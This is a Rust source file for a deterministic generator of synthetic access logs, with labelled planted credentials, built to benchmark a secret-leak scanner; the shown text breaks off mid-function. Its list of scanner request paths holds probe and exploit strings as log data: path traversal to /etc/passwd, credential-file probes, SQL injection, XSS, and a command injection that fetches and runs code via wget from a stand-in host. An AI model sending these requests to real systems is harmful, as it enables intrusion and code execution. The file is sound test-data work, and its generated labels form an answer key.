//! `genlog`: a deterministic generator of realistic web server access logs with a small,
//! labelled rate of planted credentials. It makes the big inputs logleaks is measured on, and the
//! answer key to check what it finds.
//!
//! ```text
//! cargo run --release --example genlog -- --size 1G --seed 7 \
//!     --labels target/bench/access-1g.labels.tsv > target/bench/access-1g.log
//! rustc -O --edition 2021 examples/genlog.rs -o /tmp/genlog    # std only, no crates
//! ```
//!
//! Options:
//!
//! * `--size SIZE` (required): bytes to write; `K`/`M`/`G` are 10^3/10^6/10^9, `Ki`/`Mi`/`Gi`
//!   powers of 1024. Output stops at the last whole line that fits.
//! * `--seed N` (default 1): the same seed gives byte-identical output. Output is prefix-stable:
//!   a smaller `--size` gives the first lines (and the first labels) of a bigger one.
//! * `--format combined|common|vhost_combined` (default `combined`): nginx/Apache `combined`
//!   (`$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent
//!   "$http_referer" "$http_user_agent"`), Apache `common` (no referer or user agent, `-` for an
//!   empty body), or Apache `vhost_combined` (a `www.example.com:443 ` prefix, bytes sent
//!   including headers).
//! * `--secret-rate F` (default 0.0001): probability that a line carries a planted credential.
//! * `--labels FILE`: one TSV row per planted credential, no header:
//!   `line  kind  where  encoding  param  secret`, where
//!   - `line` is the 1-based line number (a line may carry two credentials: two rows);
//!   - `kind` is one of the names in [`Kind::name`];
//!   - `where` is `request.query`, `request.path`, `referer` (in the referer's query, or the whole
//!     referer for a bare webhook URL) or `userinfo` (`https://user:password@host` as the request
//!     target or the referer);
//!   - `encoding` says how the credential's own bytes appear: `plain` (as is), `percent`
//!     (percent-encoded once), `double` (percent-encoded twice, `/` as `%252F`) or `nested`
//!     (the value of a parameter of a URL that is itself percent-encoded inside another
//!     parameter, e.g. `return_to=https%3A%2F%2Fapi.example.com%2Fcb%3Faccess_token%3D<secret>`;
//!     reserved characters of the secret then appear twice encoded). Secrets made only of
//!     unreserved characters look the same in every encoding, so they are only ever `plain` or
//!     `nested`;
//!   - `param` is the innermost parameter name holding it, `-` in a path or userinfo;
//!   - `secret` is the exact decoded credential (for `url_userinfo` the password, for a webhook
//!     the whole URL).
//!
//! The traffic is one fictional shop: interleaved sessions of browsers (pages, then their
//! content-hashed static assets and XHR/JSONP calls with the page as referer), crawlers,
//! vulnerability scanners (including TLS handshakes written as nginx writes them, `\x16\x03\x01`),
//! API clients and health checks, with a daily rhythm in the timestamps. About 30% of requests
//! carry a query string. High-entropy but harmless values (click ids, cache busters, cursors,
//! OAuth codes, CSRF tokens, signatures, uuids, commit hashes) and public-by-design keys are
//! everywhere: they are the hard negatives and are never labelled. Every planted value is random.

use std::env;
use std::fs::File;
use std::io::{self, BufWriter, Write};
use std::process::ExitCode;

const USAGE: &str = "usage: genlog --size SIZE [--seed N] [--format combined|common|vhost_combined] \
[--secret-rate F] [--labels FILE]

  --size SIZE       bytes to write: 500K, 100M, 1G (powers of 10) or 512Ki, 64Mi, 1Gi
  --seed N          random seed (default 1); the same seed gives the same bytes
  --format FORMAT   combined (default), common or vhost_combined
  --secret-rate F   probability that a line carries a planted credential (default 0.0001)
  --labels FILE     write line, kind, where, encoding, param, secret (TSV) of each planted credential";

const SITE_URL: &str = "https://www.example.com";
const B62: &[u8] = b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
const B64URL: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
const B64STD: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const B32: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ234567";
const HEX: &[u8] = b"0123456789abcdef";
const HEX_UPPER: &[u8] = b"0123456789ABCDEF";
const UPPER_ALNUM: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
const LOWER_ALNUM: &[u8] = b"abcdefghijklmnopqrstuvwxyz0123456789";
const DIGITS: &[u8] = b"0123456789";
const PASSWORD_CHARS: &[u8] =
    b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!@#$%&*";
const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];
/// Unix time of the first line: 27/Nov/2026:10:00:00 +0000.
const START: u64 = 1_795_773_600;
/// Mean requests per second at an average hour.
const MEAN_RPS: f64 = 45.0;
/// Relative request rate per hour of the day: quiet at night, busiest in the evening.
const HOURLY: [f64; 24] = [
    0.55, 0.45, 0.38, 0.33, 0.30, 0.32, 0.40, 0.55, 0.75, 0.90, 1.00, 1.08, 1.15, 1.12, 1.10, 1.12,
    1.18, 1.25, 1.35, 1.45, 1.50, 1.40, 1.15, 0.80,
];

/// xoshiro256** seeded through splitmix64: small, fast and the same on every platform.
struct Rng {
    s: [u64; 4],
}

impl Rng {
    fn new(seed: u64) -> Rng {
        let mut x = seed;
        let mut splitmix = || {
            x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
            let mut z = x;
            z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
            z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
            z ^ (z >> 31)
        };
        Rng {
            s: [splitmix(), splitmix(), splitmix(), splitmix()],
        }
    }

    fn next_u64(&mut self) -> u64 {
        let s = &mut self.s;
        let result = s[1].wrapping_mul(5).rotate_left(7).wrapping_mul(9);
        let t = s[1] << 17;
        s[2] ^= s[0];
        s[3] ^= s[1];
        s[1] ^= s[2];
        s[0] ^= s[3];
        s[2] ^= t;
        s[3] = s[3].rotate_left(45);
        result
    }

    /// A uniform integer in `0..n`.
    fn below(&mut self, n: usize) -> usize {
        ((u128::from(self.next_u64()) * n as u128) >> 64) as usize
    }

    /// A uniform integer in `lo..=hi`.
    fn range(&mut self, lo: u64, hi: u64) -> u64 {
        lo + ((u128::from(self.next_u64()) * u128::from(hi - lo + 1)) >> 64) as u64
    }

    /// A uniform float in `[0, 1)`.
    fn unit(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }

    /// Picks from `(weight, value)` pairs.
    fn weighted<T: Copy>(&mut self, items: &[(u32, T)]) -> T {
        let total: u32 = items.iter().map(|&(w, _)| w).sum();
        let mut x = self.below(total as usize) as u32;
        for &(w, v) in items {
            if x < w {
                return v;
            }
            x -= w;
        }
        items[items.len() - 1].1
    }

    /// An index into a list of `n`, skewed towards the front (a few busy clients, a long tail).
    fn skewed(&mut self, n: usize) -> usize {
        let u = self.unit();
        ((n as f64 * u * u) as usize).min(n - 1)
    }

    fn string(&mut self, alphabet: &[u8], len: usize) -> String {
        let mut v = Vec::with_capacity(len);
        v.rand(self, alphabet, len);
        String::from_utf8(v).expect("alphabets are ASCII")
    }

    fn bytes(&mut self, len: usize) -> Vec<u8> {
        (0..len).map(|_| self.next_u64() as u8).collect()
    }
}

/// Appending helpers for the byte buffers that lines are built in.
trait Put {
    fn put(&mut self, s: impl AsRef<[u8]>);
    fn num(&mut self, n: u64);
    fn num2(&mut self, n: u64);
    fn rand(&mut self, rng: &mut Rng, alphabet: &[u8], len: usize);
    fn uuid(&mut self, rng: &mut Rng);
}

impl Put for Vec<u8> {
    fn put(&mut self, s: impl AsRef<[u8]>) {
        self.extend_from_slice(s.as_ref());
    }

    fn num(&mut self, mut n: u64) {
        let mut digits = [0u8; 20];
        let mut i = digits.len();
        loop {
            i -= 1;
            digits[i] = b'0' + (n % 10) as u8;
            n /= 10;
            if n == 0 {
                break;
            }
        }
        self.extend_from_slice(&digits[i..]);
    }

    /// Two digits, zero-padded.
    fn num2(&mut self, n: u64) {
        self.push(b'0' + (n / 10 % 10) as u8);
        self.push(b'0' + (n % 10) as u8);
    }

    /// `len` random characters of `alphabet`; power-of-two alphabets take several per draw.
    fn rand(&mut self, rng: &mut Rng, alphabet: &[u8], len: usize) {
        let k = alphabet.len();
        if k.is_power_of_two() {
            let bits = k.trailing_zeros();
            let mask = (k - 1) as u64;
            let per_draw = 64 / bits;
            let (mut x, mut left) = (0u64, 0u32);
            for _ in 0..len {
                if left == 0 {
                    x = rng.next_u64();
                    left = per_draw;
                }
                self.push(alphabet[(x & mask) as usize]);
                x >>= bits;
                left -= 1;
            }
        } else {
            let mut i = 0;
            while i < len {
                let x = rng.next_u64();
                self.push(alphabet[(((x >> 32) * k as u64) >> 32) as usize]);
                if i + 1 < len {
                    self.push(alphabet[(((x & 0xFFFF_FFFF) * k as u64) >> 32) as usize]);
                }
                i += 2;
            }
        }
    }

    /// A random version 4 UUID.
    fn uuid(&mut self, rng: &mut Rng) {
        self.rand(rng, HEX, 8);
        self.put("-");
        self.rand(rng, HEX, 4);
        self.put("-4");
        self.rand(rng, HEX, 3);
        self.put("-");
        self.rand(rng, b"89ab", 1);
        self.rand(rng, HEX, 3);
        self.put("-");
        self.rand(rng, HEX, 12);
    }
}

/// CRC-32 (IEEE 802.3, reflected, polynomial 0xEDB88320).
fn crc32(data: &[u8]) -> u32 {
    let mut crc = !0u32;
    for &b in data {
        crc ^= u32::from(b);
        for _ in 0..8 {
            crc = if crc & 1 != 0 {
                (crc >> 1) ^ 0xEDB8_8320
            } else {
                crc >> 1
            };
        }
    }
    !crc
}

/// Base64 of `data` in `alphabet`, with or without `=` padding.
fn base64(data: &[u8], alphabet: &[u8], pad: bool) -> String {
    let mut out = String::with_capacity(data.len().div_ceil(3) * 4);
    for chunk in data.chunks(3) {
        let n = (u32::from(chunk[0]) << 16)
            | (u32::from(*chunk.get(1).unwrap_or(&0)) << 8)
            | u32::from(*chunk.get(2).unwrap_or(&0));
        for i in 0..=chunk.len() {
            out.push(alphabet[((n >> (18 - 6 * i)) & 63) as usize] as char);
        }
        if pad {
            for _ in chunk.len()..3 {
                out.push('=');
            }
        }
    }
    out
}

/// Percent-encodes every byte but the unreserved characters of RFC 3986.
fn pct(s: &str) -> String {
    let mut out = String::with_capacity(s.len() * 3);
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
            out.push(b as char);
        } else {
            out.push('%');
            out.push(HEX_UPPER[usize::from(b >> 4)] as char);
            out.push(HEX_UPPER[usize::from(b & 15)] as char);
        }
    }
    out
}

/// Whether a byte may stand unencoded in a query value without changing its meaning.
fn raw_ok(b: u8) -> bool {
    b.is_ascii_alphanumeric() || b"-._~!$*,;:@/".contains(&b)
}

/// Year, month (1-12) and day of a count of days since 1970-01-01.
fn civil_from_days(days: u64) -> (u64, u64, u64) {
    let z = days + 719_468;
    let era = z / 146_097;
    let doe = z - era * 146_097;
    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
    let mp = (5 * doy + 2) / 153;
    let day = doy - (153 * mp + 2) / 5 + 1;
    let month = if mp < 10 { mp + 3 } else { mp - 9 };
    let year = yoe + era * 400 + u64::from(month <= 2);
    (year, month, day)
}

/// Log time: the current second, how many lines are left in it, and its `$time_local` text.
struct Clock {
    sec: u64,
    left: u32,
    stamp: Vec<u8>,
}

impl Clock {
    fn new() -> Clock {
        Clock {
            sec: START - 1,
            left: 0,
            stamp: Vec::with_capacity(32),
        }
    }

    /// Moves to the time of the next line.
    fn tick(&mut self, rng: &mut Rng) {
        if self.left == 0 {
            while self.left == 0 {
                self.sec += 1;
                let in_day = self.sec % 86_400;
                let hour = (in_day / 3600) as usize;
                let frac = (in_day % 3600) as f64 / 3600.0;
                let mut rate =
                    MEAN_RPS * (HOURLY[hour] * (1.0 - frac) + HOURLY[(hour + 1) % 24] * frac);
                if rng.chance(0.002) {
                    rate *= 4.0; // a burst
                }
                self.left = (rate * (0.6 + 0.8 * rng.unit())) as u32;
            }
            self.render();
        }
        self.left -= 1;
    }

    fn render(&mut self) {
        let (year, month, day) = civil_from_days(self.sec / 86_400);
        let in_day = self.sec % 86_400;
        let s = &mut self.stamp;
        s.clear();
        s.num2(day);
        s.push(b'/');
        s.put(MONTHS[(month - 1) as usize]);
        s.push(b'/');
        s.num(year);
        s.push(b':');
        s.num2(in_day / 3600);
        s.push(b':');
        s.num2(in_day / 60 % 60);
        s.push(b':');
        s.num2(in_day % 60);
        s.put(" +0000");
    }

    /// Epoch milliseconds within the current second, as cache busters carry.
    fn ms(&self, rng: &mut Rng) -> u64 {
        self.sec * 1000 + rng.range(0, 999)
    }
}

/// The log format to write.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Format {
    Combined,
    Common,
    VhostCombined,
}

/// Who is making requests.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Class {
    Browser,
    Bot,
    Api,
    Monitor,
    Scanner,
}

/// Share of lines and mean session length (lines) of each class.
const CLASS_MIX: [(Class, f64, f64); 5] = [
    (Class::Browser, 0.36, 28.0),
    (Class::Bot, 0.10, 12.5),
    (Class::Api, 0.22, 25.5),
    (Class::Monitor, 0.27, 1.0),
    (Class::Scanner, 0.05, 17.5),
];

/// One client: address, user agent and `$remote_user`.
struct Client {
    ip: String,
    ua: String,
    user: &'static str,
}

/// One request being generated: the fields of a log line that vary.
struct Request {
    method: &'static str,
    /// The request target, or the whole request line when `raw` is set.
    target: Vec<u8>,
    raw: bool,
    proto: &'static str,
    status: u16,
    size: u64,
    /// Empty for `-`.
    referer: Vec<u8>,
}

impl Request {
    fn reset(&mut self) {
        self.method = "GET";
        self.target.clear();
        self.raw = false;
        self.proto = "HTTP/1.1";
        self.status = 200;
        self.size = 0;
        self.referer.clear();
    }

    fn has_query(&self) -> bool {
        self.target.contains(&b'?')
    }

    /// Appends `?` or `&`, whichever the target needs before one more parameter.
    fn query_sep(&mut self) {
        let sep = if self.has_query() { b'&' } else { b'?' };
        self.target.push(sep);
    }
}

/// An interleaved visit of one client.
struct Session {
    class: Class,
    client: usize,
    /// Page views (browsers) or requests (others) still to make.
    left: u32,
    /// Sub-requests (assets, XHR) of the current page still to make.
    pending: u32,
    /// URL of the current page: the referer of its sub-requests. Empty before the first page.
    page: Vec<u8>,
}

impl Session {
    fn start(&mut self, rng: &mut Rng, site: &Site) {
        let total: f64 = CLASS_MIX.iter().map(|&(_, share, len)| share / len).sum();
        let mut x = rng.unit() * total;
        self.class = Class::Scanner;
        for &(class, share, len) in &CLASS_MIX {
            if x < share / len {
                self.class = class;
                break;
            }
            x -= share / len;
        }
        self.client = rng.skewed(site.clients[self.class as usize].len());
        self.left = match self.class {
            Class::Browser => {
                let mut pages = 1;
                while pages < 40 && rng.chance(0.78) {
                    pages += 1;
                }
                pages
            }
            Class::Bot => 1 + rng.below(24) as u32,
            Class::Api => 1 + rng.below(50) as u32,
            Class::Monitor => 1,
            Class::Scanner => 1 + rng.below(34) as u32,
        };
        self.pending = 0;
        self.page.clear();
    }
}

const ADJECTIVES: &str = "classic slim relaxed organic merino linen waxed quilted vintage heritage \
lightweight waterproof recycled everyday premium trail urban alpine coastal ribbed cropped oversized \
tailored stretch canvas";
const NOUNS: &str = "shirt tee hoodie jacket parka chino jeans shorts sneaker boot sandal backpack \
tote wallet belt beanie scarf sweater cardigan blazer dress skirt sock cap vest raincoat duffel watch mug";
const COLORS: &str = "black navy olive sand rust charcoal white stone forest burgundy";
const CATEGORIES: &str = "men women kids shoes accessories sale new-arrivals outdoor home gifts \
men/jackets men/shirts women/dresses women/knitwear accessories/bags";
const WORDS: &str = "how to choose best size guide return policy winter jacket waterproof boots \
discount code free shipping gift card track order care wool vs cotton packing list hiking travel \
linen summer layering tips black friday sale store hours near me";

/// Page views, `(weight, template)`; [`Site::expand`] describes the templates.
const PAGE_VIEWS: &[(u32, &str)] = &[
    (16, "/"),
    (31, "/products/{product}"),
    (5, "/products/{product}?color={color}&size={XS|S|M|L|XL|32x32|10}"),
    (8, "/collections/{category}"),
    (5, "/collections/{category}?page={2-10}"),
    (3, "/collections/{category}?sort={price_asc|price_desc|newest|bestselling}&page={1-6}"),
    (2, "/collections/{category}?filter.v.option.size={S|M|L}&filter.v.option.color={color}"),
    (8, "/search?q={term}"),
    (2, "/search?q={term}&page={2-5}"),
    (8, "/blog/{post}"),
    // A hosted-checkout session id and an OAuth code: opaque, short-lived, not credentials.
    (2, "/checkout/success?session_id=cs_live_a1{b62:56}"),
    (1, "/auth/callback?code={b64:43}&state={b64:32}"),
    (1, "/account/login?return_to=%2Faccount%2Forders"),
    (8, "{/cart|/account|/account/orders|/pages/shipping|/pages/returns|/pages/contact|/pages/about|\
/checkout|/wishlist|/pages/size-guide|/gift-cards|/stores}"),
];

/// Campaign parameters and ad click ids of landing pages.
const CAMPAIGNS: &[(u32, &str)] = &[
    (40, "utm_source=google&utm_medium=cpc&utm_campaign={campaign}&utm_term={term}\
&gclid={Cj0KCQiA|CjwKCAiA|EAIaIQobChMI}{b64:48-66}_BwE"),
    (25, "utm_source=facebook&utm_medium=paid_social&utm_campaign={campaign}\
&utm_content={carousel|video_15s|static_a|static_b|story}&fbclid=IwAR{b64:40-46}"),
    (17, "utm_source=newsletter&utm_medium=email&utm_campaign={campaign}&mc_cid={hex:10}&mc_eid={hex:10}"),
    (8, "msclkid={hex:32}&utm_source=bing&utm_medium=cpc&utm_campaign={campaign}"),
    (5, "_ga=GA1.2.{100000000-2147483647}.{1700000000-1795000000}"),
    (5, "fbclid=IwZXh0bgNhZW0CMTEAAR{b64:30-40}_aem_{b64:22}"),
];

/// Referers of a visit's first page: search engines, social sites, mail.
const EXTERNAL_REFERERS: &[(u32, &str)] = &[
    (22, "https://www.google.com/"),
    (4, "https://www.google.co.uk/"),
    (4, "https://www.google.de/"),
    (8, "https://www.google.com/url?sa=t&rct=j&q=&esrc=s&source=web&cd=&ved=2ahUKEwi{b64:34}QFnoECBAQAQ\
&url=https%3A%2F%2Fwww.example.com%2Fproducts%2F{product}&usg=AOvVaw{b64:22}&opi=89978449"),
    (5, "https://www.google.com/search?q={term}&sca_esv={hex:16}&ei={b64:22}&ved=0ahUKEwi{b64:34}Q4dUDCBA\
&uact=5&sclient=gws-wiz-serp"),
    (8, "https://www.bing.com/search?q={term}&form=QBLH&sp=-1&lq=0&sc=10-{5-24}&qs=n&sk=&cvid={HEX:32}"),
    (5, "https://duckduckgo.com/"),
    (12, "https://l.facebook.com/l.php?u=https%3A%2F%2Fwww.example.com%2Fproducts%2F{product}&h=AT{b64:60-90}"),
    (5, "https://t.co/{b62:10}"),
    (5, "android-app://com.google.android.gm/"),
    (5, "https://www.instagram.com/"),
    (5, "https://www.reddit.com/r/{malefashionadvice|BuyItForLife|hiking}/comments/{alnum:7}/{word}_{word}/"),
    (3, "https://news.ycombinator.com/item?id={42000000-46000000}"),
    (4, "https://mail.google.com/"),
    (5, "https://www.pinterest.com/pin/{100000000000000000-999999999999999999}/"),
];

/// Static assets of a page, `(weight, (template, smallest size, largest size))`.
const ASSETS: &[(u32, (&str, u64, u64))] = &[
    (30, ("{script}", 2_000, 400_000)),
    (12, ("{style}", 3_000, 90_000)),
    (23, ("/images/products/{id}/{slug}-{1-6}-{400x400|800x800|1200x1200|800x1200}.jpg", 4_000, 350_000)),
    (9, ("/cdn/shop/products/{slug}_{1-6}.webp?v={1700000000-1795000000}&width={180|360|720|1080}", 4_000, 350_000)),
    // Signed image-resizer URLs: the signature is an HMAC of the parameters, harmless to leak.
    (3, ("/img/products/{id}/{slug}.jpg?w={320|640|960|1280}&fit=crop&q=75&s={hex:32}", 4_000, 350_000)),
    (3, ("/img/products/{id}/{slug}.jpg?w={320|640|1280}&expires={1795800000-1798400000}&sig={hex:64}", 4_000, 350_000)),
    (10, ("{font}", 20_000, 110_000)),
    (5, ("{/static/js/app.js|/static/css/theme.css}?rev={release}", 2_000, 200_000)),
    (5, ("{/favicon.ico|/apple-touch-icon.png|/site.webmanifest|/static/img/logo.svg|/sw.js}", 300, 30_000)),
];

/// XHR, JSONP and beacon calls of a page, `(weight, (methods, template))`.
const PAGE_CALLS: &[(u32, (&str, &str))] = &[
    (34, ("GET", "/api/v1/products?collection={collection}&page={1-8}&limit=24&sort={featured|price_asc|newest}")),
    (22, ("GET", "/api/v1/recommendations?product_id={id}&limit=8&_={ms}")),
    (22, ("GET|GET|POST", "/api/v1/cart")),
    (12, ("GET", "/api/v1/feed/instagram?callback=jQuery3710{digits:17}_{load_ms}&_={ms}")),
    (20, ("POST", "/api/v1/events")),
    (10, ("GET", "/api/v1/orders/{uuid}")),
    (10, ("GET", "/api/v1/track?id={uuid}&event={view_item|add_to_cart|begin_checkout|scroll_75}&ts={ms}")),
    (10, ("GET", "/api/v1/i18n?key={checkout.button.label|cart.empty.title|product.add_to_cart|\
nav.account.sign_in|errors.payment_declined|search.placeholder}&locale={locale}")),
    (6, ("GET", "/api/v1/search/suggest?q={word}&limit=6")),
    // Keys that are public by design: error-tracking ingest, search-only, map tiles, payments.
    (4, ("POST", "/monitoring/api/4506873/envelope/?sentry_key={error_tracking_key}&sentry_version=7\
&sentry_client=sentry.javascript.browser%2F8.33.1")),
    (4, ("POST", "/search-proxy/1/indexes/*/queries?x-algolia-agent=Algolia%20for%20JavaScript%20(4.24.0)\
%3B%20Browser%20(lite)&x-algolia-api-key={search_key}&x-algolia-application-id=NW7X3K2Q1B")),
    (4, ("GET", "/maps/tiles/v4/mapbox.mapbox-streets-v8/{10-16}/{0-16000}/{0-16000}.vector.pbf\
?sku=101{alnum:11}&access_token={maps_token}")),
    (2, ("GET", "/api/v1/checkout/config?publishable_key={publishable_key}&currency={usd|eur|gbp}")),
    (4, ("GET", "/auth/google/callback?state={b64:32}&code=4%2F0A{b64:68}&scope=email+profile+openid\
+https%3A%2F%2Fwww.googleapis.com%2Fauth%2Fuserinfo.email&authuser=0&prompt=none")),
    (2, ("GET", "/oauth/authorize?response_type=code&client_id={oauth_client_id}\
&redirect_uri=https%3A%2F%2Fwww.example.com%2Fauth%2Fcallback&scope=openid+profile+email\
&state={b64:32}&nonce={b64:22}")),
    (4, ("GET", "/search?utf8=%E2%9C%93&authenticity_token={csrf_token}&q={term}")),
    (6, ("GET", "/api/v1/reviews?product_id={id}&page_token={b64:64}")),
    (6, ("GET", "/api/v1/orders?limit=20&request_id={uuid}")),
    (8, ("POST", "/g/collect?v=2&tid=G-7XK2Q9MZ3P&_p={1-2000000000}&cid={1000000000-1999999999}\
.{1786000000-1795700000}&ul=en-us&en=page_view&dl=https%3A%2F%2Fwww.example.com%2Fproducts%2F{product}")),
    (10, ("GET", "{/api/v1/users/me|/api/v1/wishlist|/api/v1/session}")),
];

/// Calls of API clients and mobile apps, `(weight, (methods, template))`.
const API_CALLS: &[(u32, (&str, &str))] = &[
    (11, ("GET", "/api/v2/orders?status={shipped|pending|any|cancelled}&per_page=100\
&updated_since=2026-1{0|1}-{10-28}T00:00:00Z")),
    (11, ("GET", "/api/v2/orders?status={shipped|pending|any}&per_page=100\
&updated_since=2026-1{0|1}-{10-28}T00:00:00Z&{next_token|cursor|page_token}={b64:24-96}")),
    (20, ("GET|GET|PUT", "/api/v2/inventory/NW-{digits:6}")),
    (10, ("POST", "/oauth/token")),
    (14, ("POST", "{/webhooks/payments|/webhooks/orders-create|/webhooks/fulfillment|/webhooks/email-events}")),
    (10, ("GET", "/api/v2/products/{id}/variants?fields=id,sku,price,inventory_quantity")),
    (8, ("GET|GET|PATCH|DELETE", "/api/v2/customers/{uuid}")),
    (7, ("GET", "/api/v2/reports/export?format={csv|json}&from=2026-01-01&to=2026-09-30&cursor={b64:36}")),
    (3, ("GET", "/api/v2/deploys/status?rev={hex:40}&env=production&ts={sec}")),
    (6, ("POST", "/graphql")),
];

const SCANNER_TARGETS: &[&str] = &[
    "/.env",
    "/.git/config",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-admin/setup-config.php?step=1",
    "/phpmyadmin/index.php",
    "/admin/.env",
    "/config.json",
    "/server-status",
    "/.aws/credentials",
    "/actuator/env",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
    "/../../etc/passwd",
    "/api/v1/../../../../etc/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/static/..%252f..%252f..%252fetc%252fpasswd",
    "/index.php?s=/Index/\\x5Cthink\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=Hello",
    "/?XDEBUG_SESSION_START=phpstorm",
    "/search?q=%27%20OR%201%3D1--",
    "/products?id=1%27%20UNION%20SELECT%20NULL%2CNULL%2CNULL--%20-",
    "/?q=%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http%3A%2F%2F198.51.100.7%2Ft+-O-+|+sh%60)",
    "/owa/auth/logon.aspx",
    "/remote/login?lang=en",
    "/.DS_Store",
    "/backup.zip",
    "/HNAP1/",
    "/boaform/admin/formLogin",
    "/solr/admin/info/system?wt=json",
    "/_ignition/execute-solution",
    "/debug/default/view?panel=config",
    "/.well-known/security.txt",
    "/",
];
const PAGE_STATUS: &[(u32, u16)] = &[
    (880, 200),
    (35, 304),
    (25, 301),
    (10, 302),
    (35, 404),
    (5, 499),
    (6, 500),
    (3, 503),
    (1, 403),
];
const ASSET_STATUS: &[(u32, u16)] = &[
    (710, 200),
    (260, 304),
    (18, 404),
    (9, 206),
    (2, 499),
    (1, 500),
];
const API_STATUS: &[(u32, u16)] = &[
    (860, 200),
    (20, 204),
    (15, 400),
    (30, 401),
    (7, 403),
    (25, 404),
    (8, 422),
    (12, 429),
    (8, 500),
    (3, 502),
    (2, 504),
    (10, 304),
];

/// `N` or `LO-HI` as an inclusive range.
fn number_range(s: &str) -> Option<(u64, u64)> {
    match s.split_once('-') {
        Some((lo, hi)) => Some((lo.parse().ok()?, hi.parse().ok()?)),
        None => s.parse().ok().map(|n| (n, n)),
    }
}

/// One of the `|`-separated alternatives of `spec`.
fn alternative(rng: &mut Rng, spec: &'static str) -> &'static str {
    let n = spec.split('|').count();
    spec.split('|').nth(rng.below(n)).unwrap_or(spec)
}

/// The fictional shop: its catalogue, assets, public keys and clients.
struct Site {
    products: Vec<(u64, String)>,
    categories: Vec<&'static str>,
    colors: Vec<&'static str>,
    words: Vec<&'static str>,
    search_terms: Vec<String>,
    blog_posts: Vec<String>,
    campaigns: Vec<String>,
    scripts: Vec<String>,
    styles: Vec<String>,
    fonts: Vec<String>,
    /// Commit hash of the deployed front end.
    release: String,
    /// Keys that are public by design and sent by the front end in query strings.
    error_tracking_key: String,
    search_key: String,
    maps_token: String,
    publishable_key: String,
    oauth_client_id: String,
    /// Clients of each [`Class`], indexed by `class as usize`.
    clients: [Vec<Client>; 5],
}

impl Site {
    fn new(rng: &mut Rng) -> Site {
        let words = |list: &'static str| list.split_whitespace().collect::<Vec<_>>();
        let (adjectives, nouns, colors, categories, words) = (
            words(ADJECTIVES),
            words(NOUNS),
            words(COLORS),
            words(CATEGORIES),
            words(WORDS),
        );
        let products = (0..4000u64)
            .map(|i| {
                let mut slug = String::new();
                if rng.chance(0.4) {
                    slug = format!("{}-", rng.pick(&adjectives));
                }
                slug += &format!(
                    "{}-{}-{}",
                    rng.pick(&adjectives),
                    rng.pick(&colors),
                    rng.pick(&nouns)
                );
                (10_000 + i * 7 + rng.range(0, 6), slug)
            })
            .collect();
        let search_terms = (0..3000)
            .map(|_| {
                // Browsers send spaces as `+`; some apps and hand-made links use `%20`.
                let sep = if rng.chance(0.25) { "%20" } else { "+" };
                let n = *rng.pick(&[1, 1, 2, 2, 2, 3, 3, 4]);
                let mut term = (0..n)
                    .map(|_| *rng.pick(&words))
                    .collect::<Vec<_>>()
                    .join(sep);
                if rng.chance(0.05) {
                    term += alternative(rng, "+%C3%A9t%C3%A9|+d%C3%BCnn|%21|+2026|+xl");
                }
                term
            })
            .collect();
        let blog_posts = (0..600)
            .map(|_| {
                let year = rng.range(2019, 2026);
                let month = rng.range(1, 12);
                let slug = [rng.pick(&words), rng.pick(&words), rng.pick(&words)];
                format!("{year}/{month:02}/{}-{}-{}", slug[0], slug[1], slug[2])
            })
            .collect();
        let campaigns = (0..120)
            .map(|_| {
                format!(
                    "{}-{}-{}",
                    alternative(rng, "spring|summer|fall|winter|bf|cm|evergreen"),
                    alternative(rng, "sale|launch|retarget|prospecting|promo|lookbook"),
                    alternative(rng, "2025|2026|us|eu|uk|ca|de")
                )
            })
            .collect();
        let mut hex = |n| rng.string(HEX, n);
        let scripts = vec![
            format!("/static/js/main.{}.js", hex(8)),
            format!("/static/js/vendor.{}.js", hex(8)),
            format!("/static/js/runtime.{}.js", hex(8)),
            format!("/static/js/product.{}.chunk.js", hex(8)),
            format!("/static/js/checkout.{}.chunk.js", hex(8)),
            format!("/_app/immutable/chunks/index-{}.js", hex(16)),
            format!("/assets/application-{}.js", hex(64)),
        ];
        let styles = vec![
            format!("/static/css/main.{}.css", hex(8)),
            format!("/static/css/product.{}.chunk.css", hex(8)),
            format!("/assets/application-{}.css", hex(64)),
        ];
        let fonts = vec![
            format!("/static/fonts/inter-var.{}.woff2", hex(8)),
            format!("/static/fonts/icons.{}.woff2", hex(8)),
        ];
        let (release, error_tracking_key, search_key) = (hex(40), hex(32), hex(32));
        let maps_claims = format!(
            r#"{{"u":"examplemaps","a":"{}"}}"#,
            rng.string(LOWER_ALNUM, 25)
        );
        let maps_token = format!(
            "pk.{}.{}",
            base64(maps_claims.as_bytes(), B64URL, false),
            rng.string(B64URL, 22)
        );
